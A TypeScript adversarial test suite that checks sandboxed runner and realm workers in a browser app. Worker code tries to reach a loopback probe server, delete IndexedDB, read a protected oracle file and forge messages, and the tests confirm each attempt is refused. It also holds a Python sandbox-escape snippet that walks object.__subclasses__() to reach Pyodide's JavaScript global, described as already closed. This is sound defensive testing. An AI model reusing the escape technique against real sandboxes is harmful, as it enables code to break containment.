/**
 * Hostile code in the app's runner workers, in Debian Chromium against the production build (`vite build` +
 * `vite preview`, which serves the worker scripts with their CSP). From inside a real runner worker, every way to
 * reach another origin — fetch, XHR, import(), importScripts, WebSocket, EventSource — is blocked and the probe server
 * logs nothing, while the same browser's page does reach it (so the attempts were real). Then the hostile C program,
 * uploaded as a prebuilt .wasm, floods and spins through the Tests tab while the page keeps answering.
 *
 * The attacks on the candidate realm run by Playwright's `worker.evaluate` inside the realm's worker: code in that
 * worker's global, which is what a candidate that escaped its engine would have. The one known escape (Pyodide's
 * `jsfinder`, `ESCAPE` below) is closed (tests/adversarial/python-pool.test.ts), but the realm is the layer that must
 * hold for the next one, so its attacker cannot depend on any escape still working.
 */
import type { Browser, Page, Worker } from 'playwright-core';
import type { PreviewServer, ViteDevServer } from 'vite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium, startDevServer } from '../browser/chromium.ts';
import type { PoolName, RealmHarness, RunSummary } from '../browser/realm-harness.ts';
import { setEditorText } from '../app/editor.ts';
import { sharedAppBuild, startPreviewServer } from '../app/preview.ts';
import { hostileC } from './fixtures.ts';
import { startProbeServer, type ProbeServer } from './probe-server.ts';

/** What one attempt from inside the worker got, and the CSP violations the worker reported meanwhile. */
type Escapes = { results: Record<string, string>; violations: string[] };

describe('hostile code in the app’s runner workers (Chromium, production build)', { timeout: 120_000 }, () => {
  let server: PreviewServer;
  let base: string;
  let browser: Browser;
  let page: Page;
  let probe: ProbeServer;
  let hostileWasm: string;
  const pageErrors: string[] = [];

  beforeAll(async () => {
    probe = await startProbeServer();
    hostileWasm = (await hostileC('hostile')).path;
    ({ server, url: base } = await startPreviewServer(await sharedAppBuild()));
    browser = await launchChromium();
    page = await (await browser.newContext({ viewport: { width: 1280, height: 800 } })).newPage();
    page.on('pageerror', (e) => pageErrors.push(e.message));
  }, 300_000);

  afterAll(async () => {
    await browser?.close();
    await server?.close();
    await probe?.close();
  });

  const tab = (name: string) => page.getByRole('tab', { name });
  const runOracle = async (args: string): Promise<void> => {
    await page.locator('#oracle-args').fill(args);
    await page.getByTestId('oracle-run').click();
    await page.getByTestId('exit-code').waitFor();
  };
  const runnerWorker = (): Worker | undefined =>
    page.workers().find((w) => /\/assets\/workers\/runner\.worker/.test(w.url()));

  it('blocks fetch, XHR, import(), importScripts, WebSocket and EventSource to another origin from a runner worker', async () => {
    await page.goto(`${base}/?target=uuidparse&tab=oracle`);
    // An oracle run starts the app's runner workers.
    await runOracle('-V');
    await expect.poll(() => runnerWorker() !== undefined).toBe(true);
    const worker = runnerWorker() as Worker;

    const escapes: Escapes = await worker.evaluate(
      async ({ origin, ws }) => {
        const violations: string[] = [];
        (self as unknown as { violations: string[] }).violations = violations;
        self.addEventListener('securitypolicyviolation', (e) =>
          violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
        );
        const results: Record<string, string> = {};
        const failure = (name: string) => Object.assign(new Error(name), { name });
        const attempt = async (name: string, f: () => Promise<unknown>) => {
          try {
            results[name] = `reached: ${String(await f())}`;
          } catch (e) {
            results[name] = `blocked: ${(e as Error).name}`;
          }
        };
        await attempt('fetch', async () => (await fetch(`${origin}/w-fetch`)).status);
        await attempt(
          'fetch no-cors',
          async () => (await fetch(`${origin}/w-fetch-no-cors`, { mode: 'no-cors' })).type,
        );
        await attempt(
          'XMLHttpRequest',
          () =>
            new Promise((resolve, reject) => {
              const x = new XMLHttpRequest();
              x.open('GET', `${origin}/w-xhr`);
              x.onload = () => resolve(x.status);
              x.onerror = () => reject(failure('XHRError'));
              x.send();
            }),
        );
        await attempt('importScripts', async () =>
          (self as unknown as { importScripts(url: string): void }).importScripts(`${origin}/w-import-scripts.js`),
        );
        await attempt(
          'WebSocket',
          () =>
            new Promise((resolve, reject) => {
              const socket = new WebSocket(`${ws}/w-websocket`);
              socket.onopen = () => resolve('open');
              socket.onerror = () => reject(failure('WebSocketError'));
            }),
        );
        await attempt(
          'EventSource',
          () =>
            new Promise((resolve, reject) => {
              const source = new EventSource(`${origin}/w-event-source`);
              source.onopen = () => resolve('open');
              source.onerror = () => {
                source.close();
                reject(failure('EventSourceError'));
              };
            }),
        );
        // Violation reports are delivered as tasks after the attempt failed.
        await new Promise((resolve) => setTimeout(resolve, 300));
        return { results, violations };
      },
      { origin: probe.origin, ws: `ws://${probe.host}:${probe.port}` },
    );
    // import() is evaluated from source text: in a function it would be rewritten by vitest's own module loader.
    escapes.results['import()'] = await worker.evaluate(
      `import(${JSON.stringify(`${probe.origin}/w-import.js`)}).then(() => 'reached', (e) => 'blocked: ' + e.name)`,
    );
    await new Promise((resolve) => setTimeout(resolve, 300));
    escapes.violations = await worker.evaluate(() => (self as unknown as { violations: string[] }).violations);
    console.log('escapes from a runner worker:', JSON.stringify(escapes));

    expect(Object.entries(escapes.results).filter(([, r]) => !r.startsWith('blocked'))).toEqual([]);
    expect(Object.keys(escapes.results)).toHaveLength(7);
    // The worker's CSP is what stopped them (not a missing server): each network attempt is a reported violation.
    for (const path of ['w-fetch', 'w-fetch-no-cors', 'w-xhr', 'w-websocket', 'w-event-source'])
      expect(escapes.violations.some((v) => v.startsWith('connect-src') && v.endsWith(path))).toBe(true);
    expect(escapes.violations.some((v) => /^script-src/.test(v) && v.endsWith('w-import.js'))).toBe(true);
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(probe.hits()).toEqual([]);

    // Control: the page itself (no CSP of its own) reaches the probe, so the worker's attempts were real ones.
    const control = await page.evaluate((origin) => fetch(`${origin}/from-page`).then((r) => r.text()), probe.origin);
    expect(control).toBe('probe reached\n');
    expect(probe.hits().map((h) => h.firstBytes.split('\r\n')[0])).toEqual(['GET /from-page HTTP/1.1']);
    // And the worker still runs programs.
    await runOracle('-V');
    // The previous run's output stays on screen until this one's arrives: wait for it rather than read at once.
    await expect
      .poll(() => page.locator('pre[data-stream="stdout"]').textContent(), { timeout: 15_000 })
      .toContain('uuidparse from util-linux');
  });

  it('runs the hostile C program’s flood and endless loop to their verdicts while the page keeps answering', async () => {
    const hitsBefore = probe.hits().length;
    if (!page.url().startsWith(base)) await page.goto(`${base}/?target=uuidparse&tab=oracle`);
    // Two scratch tests from the oracle console carry the program's modes as arguments.
    await tab('Oracle console').click();
    await runOracle('flood');
    await page.getByRole('button', { name: 'Copy to scratch tests' }).click();
    await page.getByText('Added as scratch-1').waitFor();
    await runOracle('spin');
    await page.getByRole('button', { name: 'Copy to scratch tests' }).click();
    await page.getByText('Added as scratch-2').waitFor();

    await tab('Workspace').click();
    await page.getByTestId('upload-input').setInputFiles(hostileWasm);
    await page.getByText(/hostile-\w+\.wasm added/).waitFor();
    await tab('Tests').click();
    await page.getByTestId('time-limit').fill('1');
    await page.getByTestId('time-limit').press('Tab');
    await page.getByTestId('test-filter').fill('scratch');
    await page.getByTestId('run-tests').click();
    // While a worker spins and another floods, the page answers: another tab opens and its search works.
    await tab('Docs').click();
    await page.getByLabel('Search the docs').fill('json');
    await page.getByText(/1 of \d+/).waitFor({ timeout: 2000 });
    await tab('Tests').click();
    await page.locator('tr[data-case="scratch-2"]:not([data-verdict="none"])').waitFor({ timeout: 30_000 });
    await page.locator('tr[data-case="scratch-1"]:not([data-verdict="none"])').waitFor({ timeout: 30_000 });
    expect(await page.locator('tr[data-case="scratch-1"]').getAttribute('data-verdict')).toBe('output-limit');
    expect(await page.locator('tr[data-case="scratch-2"]').getAttribute('data-verdict')).toBe('timeout');

    // Afterwards the app still runs programs with the right bytes.
    await tab('Oracle console').click();
    await runOracle('-V');
    await expect
      .poll(() => page.locator('pre[data-stream="stdout"]').textContent(), { timeout: 15_000 })
      .toContain('uuidparse from util-linux');
    expect(probe.hits().length).toBe(hitsBefore);
    expect(pageErrors).toEqual([]);
  });
});

/**
 * The person's saved work against a hostile candidate in the app itself (production build): the Python candidate
 * tries the escape (which finds nothing), and code in the realm worker its run started tries to wipe the app's
 * IndexedDB and read the oracle; after a reload the workspace (the hostile program, saved before the run) is there.
 */
describe('a hostile Python candidate in the app (Chromium, production build)', { timeout: 240_000 }, () => {
  let server: PreviewServer;
  let base: string;
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    ({ server, url: base } = await startPreviewServer(await sharedAppBuild()));
    browser = await launchChromium();
    page = await (await browser.newContext({ viewport: { width: 1280, height: 800 } })).newPage();
  }, 300_000);

  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  it("leaves the person's IndexedDB and the oracle alone: the work survives a hostile run and a reload", async () => {
    await page.goto(`${base}/?target=uuidparse&tab=workspace`);
    await page.locator('#toolchain').selectOption('python');
    await page.getByRole('button', { name: /^main\.py/ }).waitFor();
    const hostile = `KEEP = 'survives the hostile run 7'
${ESCAPE}print('escaped')
`;
    await setEditorText(page, hostile);
    await page.getByTestId('save-state').filter({ hasText: 'Saved in this browser' }).waitFor();
    await page.getByRole('tab', { name: 'Tests' }).click();
    await page.getByTestId('test-filter').fill('nil');
    await page.getByTestId('run-tests').click();
    await page.locator('tr[data-case="nil"]:not([data-verdict="none"])').waitFor({ timeout: 120_000 });
    await expect.poll(() => page.getByTestId('run-tests').isEnabled(), { timeout: 60_000 }).toBe(true);
    await page.locator('tr[data-case="nil"] button.case-link').click();
    const detail = page.getByTestId('case-detail');
    expect(await detail.getByTestId('diff-stderr').innerText()).toContain('no way to the global object');
    expect(await detail.getByTestId('diff-stdout').innerText()).not.toContain('escaped');

    // The run started the app's realm workers: the attack, from inside each of them.
    const realm = page.workers().filter((w) => w.url().startsWith('blob:null/'));
    expect(realm.length).toBeGreaterThan(0);
    for (const worker of realm) {
      const results = await worker.evaluate(async (origin) => {
        const out: Record<string, string> = {};
        try {
          const request = indexedDB.deleteDatabase('mirrorbox');
          out.deleteDatabase = await new Promise<string>((resolve) => {
            request.onsuccess = () => resolve('reached');
            request.onerror = () => resolve(`refused ${request.error?.name ?? ''}`);
          });
        } catch (e) {
          out.deleteDatabase = `refused ${(e as Error).name}`;
        }
        const xhr = (url: string): string => {
          try {
            const x = new XMLHttpRequest();
            x.open('GET', url, false);
            x.send();
            return `reached ${x.status}`;
          } catch (e) {
            return `refused ${(e as Error).name}`;
          }
        };
        out.oracle = xhr('/packs/uuidparse/oracle.wasm');
        out['oracle by name'] = xhr(`${origin}/packs/uuidparse/oracle.wasm`);
        return out;
      }, base);
      expect(results).toEqual({
        deleteDatabase: expect.stringMatching(/^refused /),
        oracle: expect.stringMatching(/^refused /),
        'oracle by name': expect.stringMatching(/^refused /),
      });
    }
    await page.reload();
    await page.getByRole('tab', { name: 'Workspace' }).click();
    await page.locator('.cm-content').filter({ hasText: 'survives the hostile run 7' }).waitFor({ timeout: 15_000 });
  });
});

/**
 * The issue's Python escape (a walk of `object.__subclasses__()` to Pyodide's import hook, whose `jsproxies['js']`
 * was the worker's global object), as Python source defining `g`: closed, so kept only to show it finds nothing.
 */
const ESCAPE = `def _js():
    s = list(object.__subclasses__()); seen = set()
    while s:
        c = s.pop()
        if id(c) in seen: continue
        seen.add(id(c))
        try: s += type.__subclasses__(c)
        except Exception: pass
        try: d = type.__dict__['__dict__'].__get__(c)
        except Exception: continue
        for v in list(d.values()):
            g = getattr(v, '__globals__', None)
            if isinstance(g, dict) and 'jsfinder' in g: return g['jsfinder'].jsproxies['js']
    raise SystemExit('no way to the global object')
g = _js()
import sys
def attempt(label, action):
    try: print(label, 'reached', action())
    except BaseException as e: print(label, 'refused', type(e).__name__)
`;

/**
 * Candidate code that owns its worker's realm, in Debian Chromium: the candidate realm's pool (what the app runs
 * candidates in) beside the page's same-origin pool (where the app ran them before, and still runs the oracle), on
 * the test harness page of the dev server (tests/browser/realm-harness.ts; same realm code, bundle and CSP as the
 * build). Each attack is shown to work on the page's pool, so the same attempt failing in the realm is the realm's
 * doing.
 */
describe('hostile code in the candidate realm (Chromium)', { timeout: 240_000 }, () => {
  let dev: { server: ViteDevServer; url: string };
  let browser: Browser;
  let page: Page;
  let probe: ProbeServer;

  beforeAll(async () => {
    probe = await startProbeServer();
    dev = await startDevServer();
    browser = await launchChromium();
    page = await browser.newPage();
    await page.goto(`${dev.url}/tests/browser/realm-harness.html`);
    await page.waitForFunction(() => document.querySelector('#state')?.textContent === 'ready');
  }, 300_000);

  afterAll(async () => {
    await browser?.close();
    await dev?.server.close();
    await probe?.close();
  });

  const python = (pool: PoolName, source: string, argv: string[] = [], wallMs = 10_000): Promise<RunSummary> =>
    page.evaluate(
      ([p, s, a, w]) =>
        (window as unknown as { realmHarness: RealmHarness }).realmHarness.script(p, 'pyodide', s, a, '', w),
      [pool, source, argv, wallMs] as const,
    );
  /** A worker of the pool that has run Python (so its realm is the one candidate code owned). */
  const workerOf = async (pool: PoolName): Promise<Worker> => {
    await python(pool, 'print("up")');
    const found = page
      .workers()
      .find((w) => (pool === 'realm' ? w.url().startsWith('blob:null/') : w.url().includes('runner.worker')));
    if (!found) throw new Error(`no ${pool} worker`);
    return found;
  };
  /** Every worker of the candidate realm: the attacker owns the realm, so it has them all. */
  const realmWorkers = (): Worker[] => page.workers().filter((w) => w.url().startsWith('blob:null/'));
  /**
   * The realm worker the last Python run used, where the next one runs too (the pool reuses its last worker): the one
   * whose `fetch` is the stand-in the realm worker puts in when it starts Pyodide. An escaped candidate owns this
   * worker's global and no other (each worker is a realm of its own).
   */
  const candidateWorker = async (): Promise<Worker> => {
    await python('realm', 'print("up")');
    const ran: Worker[] = [];
    for (const w of realmWorkers()) if (await w.evaluate(() => !String(fetch).includes('[native code]'))) ran.push(w);
    expect(ran).toHaveLength(1);
    return ran[0] as Worker;
  };

  it('cannot read the oracle or the packs: synchronous XHR and fetch of oracle.wasm and index.json fail', async () => {
    const xhrFrom = (w: Worker) =>
      w.evaluate(
        (origin) =>
          ['/packs/uuidparse/oracle.wasm', '/packs/index.json'].map((path) => {
            try {
              const x = new XMLHttpRequest();
              x.open('GET', origin + path, false);
              x.responseType = 'arraybuffer';
              x.send();
              return `reached ${x.status} ${(x.response as ArrayBuffer | null)?.byteLength ?? 0}`;
            } catch (e) {
              return `refused ${(e as Error).name}`;
            }
          }),
        dev.url,
      );
    expect(await xhrFrom(await workerOf('page'))).toEqual([
      expect.stringMatching(/^reached 200 \d{5,}$/),
      expect.stringMatching(/^reached 200 \d+$/),
    ]);
    await workerOf('realm');
    for (const w of realmWorkers()) expect(await xhrFrom(w)).toEqual(['refused NetworkError', 'refused NetworkError']);
    const fetchFrom = (w: Worker) =>
      w.evaluate(
        (origin) =>
          Promise.all(
            ['/packs/uuidparse/oracle.wasm', '/packs/index.json'].map((p) =>
              fetch(origin + p).then(
                (r) => `${r.status}`,
                (e: Error) => `refused ${e.name}`,
              ),
            ),
          ),
        dev.url,
      );
    expect(await fetchFrom(await workerOf('page'))).toEqual(['200', '200']);
    await workerOf('realm');
    for (const w of realmWorkers()) expect(await fetchFrom(w)).toEqual(['refused TypeError', 'refused TypeError']);
  });

  it('has no IndexedDB and no Cache Storage', async () => {
    const storage = (w: Worker) =>
      w.evaluate(async () => {
        const idb = await new Promise<string>((resolve) => {
          try {
            const request = indexedDB.open('mirrorbox-probe');
            request.onsuccess = () => resolve('opened');
            request.onerror = () => resolve(`refused ${request.error?.name ?? ''}`);
          } catch (e) {
            resolve(`refused ${(e as Error).name}`);
          }
        });
        // An opaque origin's worker may have no `caches` at all: that refuses it as well.
        const cache =
          typeof caches === 'undefined'
            ? 'refused: no caches'
            : await caches.open('mirrorbox-probe').then(
                () => 'opened',
                (e: Error) => `refused ${e.name}`,
              );
        return { idb, cache };
      });
    expect(await storage(await workerOf('page'))).toEqual({ idb: 'opened', cache: 'opened' });
    const realm = await storage(await workerOf('realm'));
    expect(realm.idb).toBe('refused SecurityError');
    expect(realm.cache).toMatch(/^refused/);
  });

  it("loads no script of the app's origin: import() and importScripts fail", async () => {
    const load = async (w: Worker) => ({
      imported: await w.evaluate(
        `import(${JSON.stringify(`${dev.url}/src/core/bytes.ts`)}).then(() => 'loaded', (e) => 'refused ' + e.name)`,
      ),
      classic: await w.evaluate((url) => {
        try {
          (self as unknown as { importScripts(u: string): void }).importScripts(url);
          return 'loaded';
        } catch (e) {
          return `refused ${(e as Error).name}`;
        }
      }, `${dev.url}/favicon.svg`),
    });
    expect((await load(await workerOf('page'))).imported).toBe('loaded');
    const realm = await load(await workerOf('realm'));
    expect(realm.imported).toMatch(/^refused /);
    expect(realm.classic).toMatch(/^refused /);
  });

  it('reaches nothing on the loopback probe: fetch, XHR, WebSocket, EventSource, import(), importScripts', async () => {
    const worker = await workerOf('realm');
    const origin = probe.origin;
    const results = await worker.evaluate(
      async ({ origin, ws }) => {
        const out: string[] = [];
        const attempt = async (name: string, f: () => Promise<unknown>) => {
          try {
            out.push(`${name} reached ${String(await f())}`);
          } catch {
            out.push(`${name} refused`);
          }
        };
        await attempt('fetch', () => fetch(`${origin}/r-fetch`, { mode: 'no-cors' }));
        await attempt(
          'xhr',
          () =>
            new Promise((resolve, reject) => {
              const x = new XMLHttpRequest();
              x.open('GET', `${origin}/r-xhr`);
              x.onload = () => resolve(x.status);
              x.onerror = () => reject(new Error('xhr'));
              x.send();
            }),
        );
        await attempt(
          'websocket',
          () =>
            new Promise((resolve, reject) => {
              const s = new WebSocket(`${ws}/r-ws`);
              s.onopen = () => resolve('open');
              s.onerror = () => reject(new Error('ws'));
            }),
        );
        await attempt(
          'eventsource',
          () =>
            new Promise((resolve, reject) => {
              const s = new EventSource(`${origin}/r-es`);
              s.onopen = () => resolve('open');
              s.onerror = () => {
                s.close();
                reject(new Error('es'));
              };
            }),
        );
        await attempt('importScripts', async () =>
          (self as unknown as { importScripts(u: string): void }).importScripts(`${origin}/r-import-scripts.js`),
        );
        return out;
      },
      { origin, ws: `ws://${probe.host}:${probe.port}` },
    );
    results.push(
      (await worker.evaluate(
        `import(${JSON.stringify(`${origin}/r-import.js`)}).then(() => 'import reached', () => 'import refused')`,
      )) as string,
    );
    expect(results.filter((r) => !r.endsWith('refused'))).toEqual([]);
    expect(results).toHaveLength(6);
    // The Python escape's own attempt: the escape is closed, so it gets no global object to fetch with.
    const escape = await python('realm', `${ESCAPE}\nattempt('py fetch', lambda: g.fetch(sys.argv[1] + '/r-py'))\n`, [
      origin,
    ]);
    expect(escape.stderr).toContain('no way to the global object');
    // Let any connection that got through arrive before looking.
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(probe.hits()).toEqual([]);
  });

  it('keeps no JavaScript global from one run to the next', async () => {
    const set = (w: Worker) =>
      w.evaluate(() => {
        (self as unknown as { mirrorboxLeftover: string }).mirrorboxLeftover = 'from an earlier run';
      });
    const look = (w: Worker) =>
      w.evaluate(() => (self as unknown as { mirrorboxLeftover?: string }).mirrorboxLeftover ?? 'nothing left');
    // Control: on the page's pool a global set between runs is still there after the next run.
    await workerOf('page');
    const pageWorkers = page.workers().filter((w) => w.url().includes('runner.worker'));
    for (const w of pageWorkers) await set(w);
    expect(await python('page', 'print("next")')).toMatchObject({ kind: 'exited', code: 0, stdout: 'next\n' });
    for (const w of pageWorkers) expect(await look(w)).toBe('from an earlier run');

    const attacked = await candidateWorker();
    await set(attacked);
    const next = await python('realm', 'print("next")');
    expect(next.kind).toBe('trap');
    expect(next.stop).toContain('the program changed its worker: the global object gained or lost a property');
    for (let i = 0; i < 3; i++)
      expect(await python('realm', 'print("next")')).toMatchObject({ kind: 'exited', code: 0, stdout: 'next\n' });
    // The worker that ran them replaced the tainted one, and has no such global.
    const fresh = await candidateWorker();
    expect(fresh).not.toBe(attacked);
    expect(await look(fresh)).toBe('nothing left');
  });

  it('a hook planted for the next run (postMessage replaced once the run is over) changes no later verdict', async () => {
    // The worker's postMessage and MessagePort's, replaced with console.log between runs.
    await (
      await candidateWorker()
    ).evaluate(() => {
      const swallow = console.log.bind(console);
      Reflect.set(self, 'postMessage', swallow);
      Reflect.set(MessagePort.prototype, 'postMessage', swallow);
    });
    for (let i = 0; i < 3; i++) {
      const next = await python('realm', 'print("next")', [], 3000);
      if (next.kind === 'trap') {
        // The check before the run finds the hook, and that worker is replaced.
        expect(next.stop).toContain('the program changed its worker');
        continue;
      }
      expect(next).toMatchObject({ kind: 'exited', code: 0, stdout: 'next\n' });
    }
    expect(await python('realm', 'print("next")')).toMatchObject({ kind: 'exited', stdout: 'next\n' });
  });

  it('close() in the worker gives a crash verdict at once and the next run goes on', async () => {
    await (await candidateWorker()).evaluate(() => self.close());
    const closing = await python('realm', 'print("closed")');
    expect(closing.kind).toBe('trap');
    expect(closing.stop).toContain('the program tried to close its worker');
    expect(await python('realm', 'print("after")')).toMatchObject({ kind: 'exited', code: 0, stdout: 'after\n' });
  });

  it("messages to the frame, parent or top forge nothing: the run's own result stands", async () => {
    expect(
      await (
        await candidateWorker()
      ).evaluate(() => {
        const out: string[] = [];
        const forgeries = [
          { kind: 'answer', nonce: '0', ok: true, value: { kind: 'exited', code: 0, stdout: null } },
          { kind: 'crashed', id: 1, message: 'forged' },
        ];
        for (const forged of forgeries) {
          try {
            self.postMessage(forged);
            out.push(`${forged.kind} posted`);
          } catch (e) {
            out.push(`${forged.kind} refused ${(e as Error).name}`);
          }
        }
        out.push(`parent ${'parent' in self} top ${'top' in self}`);
        return out;
      }),
    ).toEqual(['answer posted', 'crashed posted', 'parent false top false']);
    expect(await python('realm', 'print("after")')).toMatchObject({ kind: 'exited', code: 0, stdout: 'after\n' });
    expect(await python('realm', 'print("again")')).toMatchObject({ kind: 'exited', stdout: 'again\n' });
  });
});
